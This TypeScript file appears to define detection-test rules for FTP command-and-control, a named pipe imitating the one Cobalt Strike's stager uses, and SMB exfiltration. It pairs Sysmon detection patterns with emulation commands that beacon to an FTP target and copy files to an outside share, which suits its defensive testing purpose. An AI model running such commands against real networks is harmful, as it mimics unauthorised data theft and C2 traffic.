import { nearest } from './nearest.ts';
import { builtAs, network, part, pipe, program, sysmon, without } from './signals.ts';
import type { TechniqueRule } from './technique-type.ts';

/** Said, and an exit code set, where a command did nothing: none of these programs can be trusted to. */
const orFail = '(echo NOT CARRIED OUT& cmd /c exit 1)';
const leftBehind = '(echo LEFT BEHIND& cmd /c exit 1)';

const script = '"%TEMP%\\{token}_ftp_c2.txt"';
const said = '"%TEMP%\\{token}_ftp_out.txt"';

/**
 * A script for the built-in client: it logs in without a password and says that it is there sixty times, so that more moves than a
 * session needs for itself. ftp.exe ends with 0 whatever happened, so its log is read for the reply to a login (RFC 959: 230).
 */
export const ftpC2: TechniqueRule = {
  id: 'ftp-c2',
  platform: 'windows',
  attack: ['T1071.002'],
  connects: { port: 21, protocolId: 6, transport: 'TCP', protocol: 'FTP', hasDataChannel: false },
  bytes: 0,
  mostBytes: null,
  // NOOP and its line end sixty times, and the login.
  commandBytes: 400,
  opens: 'each-time',
  signals: [
    sysmon('file', {
      id: 'file',
      signs: [part('file', 'ftp_c2.txt')],
      markedIn: ['file'],
      isTelling: true,
    }),
    sysmon('process', {
      id: 'process',
      signs: [builtAs('ftp.exe'), part('command', '-s:')],
      markedIn: ['command'],
      isTelling: true,
    }),
    sysmon('connection', { id: 'connection', signs: [program('ftp.exe')], port: 21 }),
    network(21),
  ],
  witness: sysmon('process', {
    id: 'witness',
    signs: [builtAs('ftp.exe'), without('command', '-s:')],
    markedIn: ['parentCommand'],
  }),
  test: {
    steps: [
      {
        id: 'script',
        shell: 'cmd',
        command: `(echo open {target}& echo user anonymous {token}@example.invalid& (for /L %i in (1,1,60) do @echo literal NOOP)& echo quit) > ${script}`,
      },
      {
        id: 'connect',
        shell: 'cmd',
        command: `(for /L %n in (1,1,{times}) do @ftp.exe -n -i -s:${script}) > ${said}`,
      },
      { id: 'proof', shell: 'cmd', command: `findstr /b /c:"230" ${said} || ${orFail}` },
    ],
    cleanUp: [
      {
        id: 'delete',
        shell: 'cmd',
        command: `del ${script} ${said} & if exist ${script} ${leftBehind}`,
      },
    ],
  },
  twin: {
    steps: [
      {
        id: 'twin',
        shell: 'cmd',
        command: `cmd.exe /c "echo {token}>nul& (echo user anonymous {token}@example.invalid& echo quit) | ftp.exe -n -i {target}" | findstr /b /c:"230" || ${orFail}`,
      },
    ],
    cleanUp: [],
  },
  nearest: [nearest.mazeUpload, nearest.telnet],
};

/**
 * A pipe by the name that Cobalt Strike gives its stager's: `msagent_` and two hexadecimal digits. The program it is made in is
 * begun for it; in one that was running before, its own record would not come.
 */
export const smbPipe: TechniqueRule = {
  id: 'smb-pipe',
  platform: 'windows',
  attack: ['T1071.002', 'T1570'],
  connects: null,
  bytes: 0,
  mostBytes: null,
  commandBytes: 0,
  opens: 'never',
  signals: [
    sysmon('process', {
      id: 'process',
      signs: [
        {
          ...program('powershell.exe'),
          any: ['powershell.exe', 'pwsh.exe'],
          payload: ['powershell.exe', 'pwsh.exe'],
        },
        part('command', 'NamedPipeServerStream', 'msagent_'),
      ],
      markedIn: ['command'],
      isOptional: true,
      isTelling: true,
    }),
    sysmon('pipe', {
      id: 'pipe',
      signs: [pipe('msagent_[0-9a-f]+', '\\msagent_')],
      isTelling: true,
    }),
  ],
  witness: sysmon('process', {
    id: 'witness',
    signs: [
      {
        ...program('powershell.exe'),
        any: ['powershell.exe', 'pwsh.exe'],
        payload: ['powershell.exe', 'pwsh.exe'],
      },
      part('command', 'NamedPipeClientStream'),
    ],
    markedIn: ['command'],
  }),
  test: {
    steps: [
      {
        id: 'pipe',
        shell: 'cmd',
        command: `powershell.exe -NoProfile -Command "$ErrorActionPreference = 'Stop'; $pipe = New-Object System.IO.Pipes.NamedPipeServerStream('msagent_f1'); Start-Sleep 5; $pipe.Dispose(); '{token}'" || ${orFail}`,
      },
    ],
    cleanUp: [],
  },
  twin: {
    steps: [
      {
        id: 'twin',
        shell: 'cmd',
        command: `powershell.exe -NoProfile -Command "$ErrorActionPreference = 'Stop'; $pipe = New-Object System.IO.Pipes.NamedPipeClientStream('.', 'srvsvc', 'InOut'); $pipe.Connect(5000); $pipe.Dispose(); '{token}'" || ${orFail}`,
      },
    ],
    cleanUp: [],
  },
  nearest: [nearest.cobaltPipes, nearest.psExecPipe, nearest.pipeClient],
};

const files = '"%TEMP%\\{token}"';

/** Files copied to a share beyond the site; robocopy ends with 8 or more where it failed, and tries once. */
export const smbInternet: TechniqueRule = {
  id: 'smb-internet',
  platform: 'windows',
  attack: ['T1071.002', 'T1048.003'],
  connects: { port: 445, protocolId: 6, transport: 'TCP', protocol: 'SMB', hasDataChannel: false },
  bytes: 3 * 2 ** 20,
  mostBytes: null,
  commandBytes: 200,
  opens: 'once',
  signals: [
    sysmon('file', {
      id: 'file',
      signs: [part('file', '_smb.bin')],
      markedIn: ['file'],
      isTelling: true,
    }),
    sysmon('process', {
      id: 'process',
      signs: [builtAs('robocopy.exe'), part('command', '\\public')],
      markedIn: ['command'],
      isTelling: true,
    }),
    // Windows itself speaks SMB, so the process is that of the system, and no process of the run.
    sysmon('connection', {
      id: 'connection',
      signs: [program('System')],
      port: 445,
      isOfRun: false,
    }),
    network(445),
  ],
  witness: sysmon('process', {
    id: 'witness',
    signs: [program('cmd.exe'), part('command', '\\public'), without('command', 'robocopy')],
    markedIn: ['command'],
  }),
  test: {
    steps: [
      {
        id: 'file',
        shell: 'cmd',
        command: `mkdir ${files} && fsutil file createnew "%TEMP%\\{token}\\{token}_smb.bin" {bytes} || ${orFail}`,
      },
      {
        id: 'copy',
        shell: 'cmd',
        command: `(for /L %n in (1,1,{times}) do @robocopy.exe ${files} "\\\\{unc}\\public\\{token}_%n" /r:0 /w:0 /njh /njs) & if errorlevel 8 ${orFail}`,
      },
    ],
    cleanUp: [
      {
        id: 'delete-shared',
        shell: 'cmd',
        command: `for /L %n in (1,1,{times}) do @rmdir /s /q "\\\\{unc}\\public\\{token}_%n"`,
      },
      {
        id: 'delete',
        shell: 'cmd',
        command: `rmdir /s /q ${files} & if exist ${files} ${leftBehind}`,
      },
    ],
  },
  twin: {
    steps: [
      {
        id: 'twin',
        shell: 'cmd',
        command: `cmd.exe /c "echo {token}>nul& dir \\\\{unc}\\public" || ${orFail}`,
      },
    ],
    cleanUp: [],
  },
  nearest: [nearest.adminShares, nearest.smbOverQuic],
};
